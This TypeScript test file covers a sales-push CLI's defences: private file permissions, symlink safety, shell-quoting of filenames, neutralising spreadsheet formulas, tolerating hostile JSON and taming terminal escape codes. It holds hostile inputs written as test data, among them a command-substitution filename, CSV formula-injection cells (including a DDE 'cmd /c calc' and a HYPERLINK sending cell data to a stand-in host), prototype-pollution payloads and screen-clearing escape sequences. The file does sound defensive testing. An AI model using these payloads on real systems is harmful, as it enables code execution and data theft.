import { spawnSync } from 'node:child_process';
import { chmodSync, lstatSync, mkdirSync, readdirSync, statSync, symlinkSync } from 'node:fs';
import { dirname } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BIN, sales, Workspace } from '../support/cli.js';
import { convosoServer } from '../support/vendor-server.js';
import { rawAnswer, rawServer } from '../support/wire.js';

const FAST = ['--rate', '100000', '--retries', '0', '--concurrency', '1'];
const SANDBOX = ['push', 'sales.csv', '--vendor', 'convoso', '--sandbox'];

function modeOf(path: string): string {
  return (statSync(path).mode & 0o777).toString(8);
}

/** Runs the command where files are open to everybody unless it says otherwise. */
function runOpen(space: Workspace, ...args: string[]): number | null {
  const shell = ['-c', 'umask 000; exec "$@"', 'sh', process.execPath, BIN, ...args];
  mkdirSync(dirname(space.ledger), { recursive: true });
  return spawnSync('sh', shell, { cwd: space.folder, env: space.env }).status;
}

describe('files', () => {
  it('of the ledger and the sandbox are for their owner alone, whatever the umask', () => {
    const space = new Workspace();
    space.write('sales.csv', sales([['1', '5']]));
    const { REVSYNC_LEDGER: _, ...env } = space.env;
    space.env = { ...env, XDG_STATE_HOME: space.folder };
    expect(runOpen(space, ...SANDBOX)).toBe(0);
    const state = space.path('revsync');
    const found = readdirSync(state, { recursive: true, encoding: 'utf8' }).sort();
    expect(found.map((name) => [name, modeOf(`${state}/${name}`)])).toEqual([
      ['ledger.db', '600'],
      ['ledger.db.lock-1', '600'],
      ['ledger.db.sandbox', '700'],
      ['ledger.db.sandbox/convoso.default.jsonl', '600'],
    ]);
    expect(modeOf(state)).toBe('700');
  });

  it('of a ledger under way are too, also where they were open to others before', async () => {
    const space = new Workspace();
    space.write('sales.csv', sales([['1', '5']]));
    for (const lock of ['.lock-1', '.lock-2']) {
      let asked: () => void = () => undefined;
      const request = new Promise<void>((resolve) => (asked = resolve));
      const server = await rawServer(() => {
        asked();
        return '';
      });
      const running = space.start(
        'push',
        'sales.csv',
        '--vendor',
        'convoso',
        '--base-url',
        `http://127.0.0.1:${server.port}`,
      );
      await request;
      const state = dirname(space.ledger);
      const names = readdirSync(state).filter((name) => name.startsWith('ledger.db-') || name.includes(lock));
      expect(names).toEqual(expect.arrayContaining(['ledger.db-shm', 'ledger.db-wal', `ledger.db${lock}`]));
      expect([...names, 'ledger.db'].filter((name) => modeOf(`${state}/${name}`) !== '600')).toEqual([]);
      running.process.kill('SIGKILL');
      await running.ended;
      for (const name of [...names, 'ledger.db']) chmodSync(`${state}/${name}`, 0o644);
    }
  });

  it('of results are as open as their source, or as the file they replace', () => {
    const space = new Workspace();
    chmodSync(space.write('sales.csv', sales([['1', '5']])), 0o640);
    expect(runOpen(space, ...SANDBOX)).toBe(0);
    expect(modeOf(space.path('sales.results.csv'))).toBe('640');
    chmodSync(space.path('sales.results.csv'), 0o600);
    expect(runOpen(space, ...SANDBOX)).toBe(0);
    expect(modeOf(space.path('sales.results.csv'))).toBe('600');
  });

  it('of results replace a link, and are never written through one', () => {
    const space = new Workspace();
    space.write('sales.csv', sales([['1', '5']]));
    space.write('precious', 'mine');
    for (const name of ['sales.results.csv', 'sales.results.csv.partial'])
      symlinkSync('precious', space.path(name));
    expect(runOpen(space, ...SANDBOX)).toBe(0);
    expect(space.read('precious')).toBe('mine');
    expect(lstatSync(space.path('sales.results.csv')).isFile()).toBe(true);
    expect(space.rows('sales.results.csv').map((row) => row['revsync_status'])).toEqual(['accepted']);
    expect(readdirSync(space.folder).sort()).toEqual([
      'precious',
      'sales.csv',
      'sales.results.csv',
      'sales.results.csv.partial',
      'state',
    ]);
  });

  it('are pushed again by a next command that leads to the same vendor, account and ledger', async () => {
    const space = new Workspace();
    const server = await convosoServer();
    space.write('sales.csv', sales([['1', 'x']]));
    const where = ['--base-url', server.url, '--account', 'main desk', '--ledger', 'own.db'];
    const ended = await space.run('push', 'sales.csv', ...where, '--vendor', 'convoso');
    expect(ended.stderr).toMatch(
      new RegExp(
        `: revsync push sales.csv --base-url ${server.url} --account 'main desk' --ledger own.db --vendor convoso\n$`,
      ),
    );
    const reconcile = [
      ...['reconcile', 'sales.csv', '--vendor', 'convoso', '--sandbox', '--account', 'main desk'],
      ...['--against', 'export.csv', '--key', 'call_log_id', '--amount', 'revenue', '--out', 'breaks.csv'],
    ];
    space.write('export.csv', sales([['2', '5']]));
    const breaks = await space.run(...reconcile);
    expect([breaks.code, breaks.stderr]).toEqual([1, expect.not.stringContaining('next: ')]);
    space.write('sales.csv', sales([['1', '5']]));
    const missing = await space.run(...reconcile);
    expect(missing.stderr).toMatch(
      /: revsync push breaks.csv --vendor convoso --sandbox --account 'main desk'\n$/,
    );
  });

  it('may be called like options, and the next command to type quotes them', async () => {
    const space = new Workspace();
    const names = ['--json', '-x.csv', "it's $(touch gone) sales.csv"];
    for (const [index, name] of names.entries()) space.write(name, sales([[`${index}`, 'x']]));
    const ended = await space.run('push', '--vendor', 'convoso', '--sandbox', '--', ...names);
    expect([ended.code, ended.stdout]).toEqual([1, '']);
    expect(ended.stderr.split('\n').slice(-5)).toEqual([
      'results: --json.results.csv',
      'results: -x.results.csv',
      "results: it's $(touch gone) sales.results.csv",
      'next: mend the rows in the source, then the same command: revsync push --vendor convoso --sandbox -- ' +
        "--json -x.csv 'it'\\''s $(touch gone) sales.csv'",
      '',
    ]);
    const [, words = ''] = /revsync push --vendor convoso --sandbox -- (.*)$/m.exec(ended.stderr) ?? [];
    const shell = spawnSync('sh', ['-c', `printf '%s\\n' ${words}`], { encoding: 'utf8' });
    expect(shell.stdout).toBe(`--json\n-x.csv\n${names[2] ?? ''}\n`);
  });
});

describe('a spreadsheet runs nothing', () => {
  it('of a cell or of what a vendor says, and numbers stay as they are', async () => {
    const space = new Workspace();
    const server = await rawServer((_request, index) =>
      rawAnswer(200, JSON.stringify({ success: false, code: 6033, text: CELLS[index]?.[0] })),
    );
    space.write(
      'sales.csv',
      `call_log_id,revenue,note\n${CELLS.map(([cell], index) => `${index},5,"${cell.replaceAll('"', '""')}"`).join('\n')}\n`,
    );
    const url = `http://127.0.0.1:${server.port}`;
    const ended = await space.run('push', 'sales.csv', '--vendor', 'convoso', '--base-url', url, ...FAST);
    expect(ended.code).toBe(1);
    const rows = space.rows('sales.results.csv');
    expect(rows.map((row) => row['note'])).toEqual(CELLS.map(([, written]) => written));
    expect(rows.map((row) => row['revsync_error'])).toEqual(CELLS.map(([, written]) => written));
    // Fed back, the cells are what they were.
    space.write('again.csv', space.read('sales.results.csv'));
    await space.run('push', 'again.csv', '--vendor', 'convoso', '--base-url', url, ...FAST);
    expect(space.rows('again.results.csv').map((row) => row['note'])).toEqual(
      CELLS.map(([, written]) => written),
    );
  });
});

/** What is in a cell, and how the results have it. */
const CELLS: readonly (readonly [string, string])[] = [
  ["=cmd|' /c calc'!A0", "'=cmd|' /c calc'!A0"],
  ['=HYPERLINK("http://x.test?"&A1,"a,b")', '\'=HYPERLINK("http://x.test?"&A1,"a,b")'],
  ['+1+cmd', "'+1+cmd"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\r=1', "'\r=1"],
  ['\n=1', "'\n=1"],
  ['\uff1d1+1', "'\uff1d1+1"],
  ['\uff0b1+1', "'\uff0b1+1"],
  ['\uff0d1+1', "'\uff0d1+1"],
  ['\uff20SUM(A1)', "'\uff20SUM(A1)"],
  ["'=1", "''=1"],
  ['-5.50', '-5.50'],
  ['+15125550123', '+15125550123'],
  ["'tis fine", "'tis fine"],
];

describe('credentials in files', () => {
  const good = 'good-token';

  it.each([
    ['a byte order mark and CR LF', `\ufeffCONVOSO_AUTH_TOKEN=${good}\r\nOTHER=1\r\n`],
    ['quotes', `CONVOSO_AUTH_TOKEN="${good}"\n`],
    ['export', `# token\nexport CONVOSO_AUTH_TOKEN='${good}'\n`],
  ])('are read from an --env-file with %s', async (_name, text) => {
    const space = new Workspace();
    delete space.env['CONVOSO_AUTH_TOKEN'];
    const server = await rawServer(() => rawAnswer(200, '{"success":true}'));
    space.write('sales.csv', sales([['1', '5']]));
    space.write('.env', text);
    const url = `http://127.0.0.1:${server.port}`;
    const run = ['push', 'sales.csv', '--vendor', 'convoso', '--base-url', url, '--env-file', '.env'];
    expect((await space.run(...run)).code).toBe(0);
    expect(server.requests.map(({ body }) => body)).toEqual([
      `auth_token=${good}&call_log_id=1&revenue=5.00`,
    ]);
  });

  it('end 2 in one line where the file cannot be read', async () => {
    const space = new Workspace();
    delete space.env['CONVOSO_AUTH_TOKEN'];
    space.write('sales.csv', sales([['1', '5']]));
    mkdirSync(space.path('folder'));
    const run = ['push', 'sales.csv', '--vendor', 'convoso'];
    space.env['CONVOSO_AUTH_TOKEN_FILE'] = space.path('folder');
    expect(await space.run(...run)).toEqual({
      code: 2,
      signal: null,
      stdout: '',
      stderr: `revsync: CONVOSO_AUTH_TOKEN_FILE: ${space.path('folder')}: cannot be read (EISDIR)\n`,
    });
  });
});

const DEEP = 30_000;

describe('an answer in JSON', () => {
  it.each([
    [
      'convoso',
      'call_log_id,revenue\n1,5\n2,5\n3,5\n4,5\n5,5\n',
      [
        [200, '{"__proto__":{"success":true,"data":{"call_log_id":"x"}}}'],
        [200, '['.repeat(100_000)],
        [200, `{"success":false,"code":1e999,"text":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}`],
        [200, '{"success":true,"success":false,"code":"constructor","text":"no"}'],
        [200, '{"success":true,"data":{"__proto__":{"call_log_id":"evil"},"call_log_id":1e400}}'],
      ],
      [
        ['failed', 'unclear_answer', ''],
        ['failed', 'unclear_answer', ''],
        ['rejected', 'http_200', ''],
        ['rejected', 'constructor', ''],
        ['accepted', '', ''],
      ],
    ],
    [
      'trackdrive',
      'call_id,revenue\n1,5\n2,5\n3,5\n',
      [
        [422, `{"errors":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}`],
        [422, `{"errors":${'{"a":'.repeat(8000)}1${'}'.repeat(8000)}}`],
        [200, `{"call":{"__proto__":{"id":"evil"},"uuid":"u-1"}}`],
      ],
      [
        ['rejected', 'http_422', ''],
        ['rejected', 'http_422', ''],
        ['accepted', '', 'u-1'],
      ],
    ],
    [
      'invoca',
      'transaction_id,outcome_name,sale_amount\n1,Sale,5\n2,Sale,5\n3,Sale,5\n',
      [
        [403, `{"errors":{"class":"RecordInvalid","__proto__":${'['.repeat(DEEP)}${']'.repeat(DEEP)}}}`],
        [404, '{"errors":{"__proto__":{"class":"UnauthorizedOperation"}}}'],
        [200, '{"call_outcome":{"transaction_id":"T-1","__proto__":{"corrects_transaction_id":"evil"}}}'],
      ],
      [
        ['rejected', 'RecordInvalid', ''],
        ['rejected', 'http_404', ''],
        ['accepted', '', 'T-1'],
      ],
    ],
  ] as const)('of %s can be hostile: each row says what came of it', async (vendor, csv, answers, wanted) => {
    const space = new Workspace();
    const server = await rawServer((_request, index) => {
      const [status, body] = answers[index] ?? [500, ''];
      return rawAnswer(status, body, { 'content-type': 'application/json' });
    });
    space.write('sales.csv', csv);
    const url = `http://127.0.0.1:${server.port}`;
    const ended = await space.run('push', 'sales.csv', '--vendor', vendor, '--base-url', url, ...FAST);
    expect(ended.code).toBe(1);
    expect(
      space
        .rows('sales.results.csv')
        .map((row) => [row['revsync_status'], row['revsync_error_code'], row['revsync_vendor_ref']]),
    ).toEqual(wanted);
  });
});

describe('the terminal', () => {
  /** Clears the screen, hides text, sets the title, turns direction, ends the line and pretends. */
  const NASTY = '\u001b[2J\u001b[8m\u001b]0;owned\u0007\u009b1A\u202e\u007f\r\nrun-9: accepted';
  const TAMED = '␛[2J␛[8m␛]0;owned␇\ufffd1A\ufffd␡␍␊run-9: accepted';

  it('is told what a vendor, a cell and a file name say, and obeys none of it', async () => {
    const space = new Workspace();
    const server = await rawServer(() =>
      rawAnswer(200, JSON.stringify({ success: false, code: 6033, text: NASTY })),
    );
    const name = `s\u001b[2J\n.csv`;
    space.write(name, `call_log_id,revenue\n7,5\n8,"\u009b2J"\n`);
    const url = `http://127.0.0.1:${server.port}`;
    const run = ['push', name, '--vendor', 'convoso', '--base-url', url, ...FAST];
    const ended = await space.run(...run, '--verbose');
    expect(ended.code).toBe(1);
    expect(ended.stderr.replace(/in [\d.]+ s$/m, 'in TIME').split('\n')).toEqual([
      `new ledger ${space.ledger}: nothing counts as sent to Convoso (account default, ${url}) before`,
      's␛[2J␊.csv: 2 rows read',
      `s␛[2J␊.csv:2: 7 create 5.00 rejected (HTTP 200) 6033: ${TAMED}`,
      `run-1: s␛[2J␊.csv to Convoso (account default, ${url}) in TIME`,
      '  invalid           1  unknown',
      '  rejected          1     5.00',
      `  s␛[2J␊.csv:2: rejected 6033: ${TAMED}`,
      expect.stringMatching(/^ {2}s␛\[2J␊\.csv:3: invalid not_an_amount: amount: "\ufffd2J" /) as string,
      'results: s␛[2J␊.results.csv',
      `next: mend the rows in the source, then the same command: revsync push $'s\\x1b[2J\\x0a.csv' --vendor convoso --base-url ${url} --rate 100000 --retries 0 --concurrency 1 --verbose`,
      '',
    ]);
    // What is for programs keeps every character.
    expect(space.rows('s\u001b[2J\n.results.csv')[0]?.['revsync_error']).toBe(NASTY);
    const history = await space.run('history', '7');
    expect(history.stdout).toContain(`rejected  6033: ${TAMED}  `);
    expect(history.stdout.split('\n')).toHaveLength(2);
    const runs = await space.run('runs');
    expect(runs.stdout).toContain('  s␛[2J␊.csv  ');
    // The colours of its own are still there, and only those.
    const painted = await space.run(...run, '--color');
    expect([...new Set(painted.stderr.match(/\p{Cc}(\[\d+m)?/gu))].sort()).toEqual([
      '\n',
      '\u001b[1m',
      '\u001b[22m',
      '\u001b[33m',
      '\u001b[39m',
    ]);
    const wrong = await space.run('push', 'x.csv', '--vendor', 'convoso', '--\u001b[2J');
    expect(wrong.stderr).toBe('revsync: there is no option --␛[2J\nsee: revsync push --help\n');
  });
});
